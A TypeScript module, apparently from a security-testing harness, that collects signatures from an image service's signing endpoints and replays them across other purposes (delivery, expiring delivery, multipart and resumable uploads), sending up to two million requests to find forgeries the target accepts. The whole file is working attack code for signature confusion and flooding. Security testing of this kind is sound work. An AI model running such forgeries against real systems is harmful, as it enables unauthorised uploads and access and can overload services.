import { type Leaked, type Purpose, repeat, type Sent, send, type Target } from './wire.ts';

/** A signature in a request that it was not made for. */
interface Forgery {
  /** For humans. */
  name: string;
  request: Sent;
  /** True if the same text was signed, for another purpose. */
  isSameText: boolean;
  /** True for a response that an invalid signature cannot get. */
  isAccepted(status: number): boolean;
}

/** In 2033. */
const FAR = 1_999_999_999;
/** Within the lifetime of presigned uploads. */
const SOON_SECONDS = 1800;

/** The rate limit counts uploads, but not signed delivery. */
const TRIES_PER_UPLOAD = 20;

const BOUNDARY = 'forger';
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/**
 * Has the service sign everything that it signs for keys with `read` and `upload`, including texts that resemble
 * another purpose.
 * @param keys headers with a key of each permission
 */
export async function collectLeaks(
  url: string,
  keys: { read: Record<string, string>; upload: Record<string, string> },
  photo: string,
): Promise<Leaked[]> {
  const soon = Math.floor(Date.now() / 1000) + SOON_SECONDS;
  const paths = [photo, `uploads:${FAR}`, `:${soon}`, `drop:${soon}`, `${FAR}:${photo}`, String(soon)];
  const deliveries = paths.flatMap((path) => [
    { path },
    { path, expiresIn: 600 },
    { path, transformation: 'w_400,f_webp' },
    { path, transformation: 'ar_1:1,w_90,f_webp', expiresIn: 600 },
  ]);
  const folders = ['', 'drop', photo, `w_400,f_webp/${photo}`, `${FAR}:w_400,f_webp`, String(FAR)];
  const leaks: Leaked[] = [];
  for (const body of deliveries) {
    const answer = await post(`${url}/delivery/sign`, body, keys.read);
    if (answer?.url) leaks.push(leakOf(answer.url));
  }
  for (const folder of folders) {
    const answer = await post(`${url}/upload/sign`, { folder, expiresIn: SOON_SECONDS }, keys.upload);
    if (!answer?.signature) continue;
    leaks.push({ purpose: 'upload', text: `${answer.folder}:${answer.expires}`, signature: answer.signature });
  }
  return leaks;
}

interface Signed {
  url?: string;
  signature?: string;
  expires?: number;
  folder?: string;
}

async function post(url: string, body: object, key: Record<string, string>): Promise<Signed | undefined> {
  const headers = { 'content-type': 'application/json', ...key };
  const answer = await fetch(url, { method: 'POST', headers, body: JSON.stringify(body) });
  const signed = (await answer.json()) as Signed;
  return answer.ok ? signed : undefined;
}

function leakOf(url: string): Leaked {
  const [, signature = '', expires = '', raw = ''] = /s--([0-9a-f]+)(?:--(\d+))?\/(.*)$/.exec(url) ?? [];
  const text = decodeURIComponent(raw);
  if (expires === '') return { purpose: 'delivery', text, signature };
  return { purpose: 'expiring delivery', text: `${expires}:${text}`, signature };
}

/**
 * Presents leaked signatures for every purpose and text that they were not made for, at full speed. Accepted ones are
 * added to the target's `accepted`.
 */
export async function forge(target: Target): Promise<void> {
  const forgeries = forgeriesOf(target.leaked);
  // The rate limit permits few uploads: those with the signed text itself come first.
  const uploads = forgeries
    .filter(({ request }) => request.method === 'POST')
    .toSorted((one, other) => Number(other.isSameText) - Number(one.isSameText));
  const deliveries = forgeries.filter(({ request }) => request.method !== 'POST');
  if (uploads.length === 0 || deliveries.length === 0) return;
  await repeat(target, { lines: 16, times: 2_000_000 }, async (n) => {
    const isUpload = n % TRIES_PER_UPLOAD === 0;
    const list = isUpload ? uploads : deliveries;
    const forgery = list[(isUpload ? n / TRIES_PER_UPLOAD : n) % list.length];
    if (!forgery) return;
    const { status } = await send(target, forgery.request);
    if (forgery.isAccepted(status) && target.accepted.length < 100) {
      target.accepted.push(`a forged signature was accepted (${status}): ${forgery.name}`);
    }
  });
}

function forgeriesOf(leaked: readonly Leaked[]): Forgery[] {
  const texts = new Set(leaked.flatMap(({ text }) => [text, text.replace(/:\d+$/, ''), text.replace(/^\d+:/, '')]));
  return leaked.flatMap((leak) => {
    const signatures = new Set([leak.signature, leak.signature.slice(0, 16)]);
    return [...signatures].flatMap((signature) =>
      [...texts].flatMap((text) => [
        ...asDelivery({ ...leak, signature }, text),
        ...asUpload({ ...leak, signature }, text),
      ]),
    );
  });
}

function asDelivery({ purpose, text: signed, signature }: Leaked, text: string): Forgery[] {
  if (text === '') return [];
  const encoded = encodeURIComponent(text).replaceAll('%2F', '/').replaceAll('%2C', ',');
  const [, expires = '', rest = ''] = /^(\d{1,15}):(.+)$/.exec(text) ?? [];
  const forms: { purpose: Purpose; text: string; path: string }[] = [
    { purpose: 'delivery', text, path: `s--${signature}/${encoded}` },
    { purpose: 'delivery', text, path: `s--${signature}/${encoded.replaceAll('%3A', ':')}` },
    { purpose: 'delivery', text: `${text}/`, path: `s--${signature}/${encoded}/` },
    { purpose: 'expiring delivery', text: `${FAR}:${text}`, path: `s--${signature}--${FAR}/${encoded}` },
  ];
  if (rest !== '') {
    const path = `s--${signature}--${expires}/${encodeURI(rest)}`;
    forms.push({ purpose: 'expiring delivery', text, path });
  }
  return forms
    .filter((form) => form.purpose !== purpose || form.text !== signed)
    .map((form) => ({
      name: `${purpose} "${signed}" as ${form.purpose} "${form.text}"`,
      request: { path: `/authenticated/${form.path}` },
      isSameText: form.text === signed,
      // A missing file is looked up only after a valid signature.
      isAccepted: (status) => [200, 202, 206, 304, 404, 422].includes(status),
    }));
}

function asUpload({ purpose, text: signed, signature }: Leaked, text: string): Forgery[] {
  const [, folder = '', expires = ''] = /^(.*):(\d{1,15})$/s.exec(text) ?? [];
  const forms = [
    { folder, expires },
    { folder: text, expires: String(FAR) },
    { folder: text, expires: signed.replace(/^.*:/s, '') },
  ];
  return forms
    .filter((form) => /^\d+$/.test(form.expires))
    .filter((form) => purpose !== 'upload' || `${form.folder}:${form.expires}` !== signed)
    .flatMap((form) => {
      const name = `${purpose} "${signed}" as upload "${form.folder}:${form.expires}"`;
      const isSameText = `${form.folder}:${form.expires}` === signed;
      return [
        { ...inForm({ ...form, signature }), name, isSameText },
        { ...resumable({ ...form, signature }), name: `${name}, resumable`, isSameText },
      ];
    });
}

interface UploadFields {
  folder: string;
  expires: string;
  signature: string;
}

function inForm(fields: UploadFields): Pick<Forgery, 'request' | 'isAccepted'> {
  const parts = Object.entries(fields).map(
    ([name, value]) => `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  );
  const file = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="files"; filename="forged.png"\r\n\r\n`;
  return {
    request: {
      method: 'POST',
      path: '/upload',
      headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
      body: Buffer.concat([Buffer.from(parts.join('') + file), PIXEL, Buffer.from(`\r\n--${BOUNDARY}--\r\n`)]),
    },
    isAccepted: (status) => status === 200 || status === 207,
  };
}

function resumable(fields: UploadFields): Pick<Forgery, 'request' | 'isAccepted'> {
  const metadata = Object.entries({ filename: 'forged.png', ...fields }).map(
    ([name, value]) => `${name} ${Buffer.from(value).toString('base64')}`,
  );
  return {
    request: {
      method: 'POST',
      path: '/upload/resumable',
      headers: {
        'tus-resumable': '1.0.0',
        'upload-length': String(PIXEL.length),
        'upload-metadata': metadata.join(','),
      },
    },
    isAccepted: (status) => status === 201,
  };
}
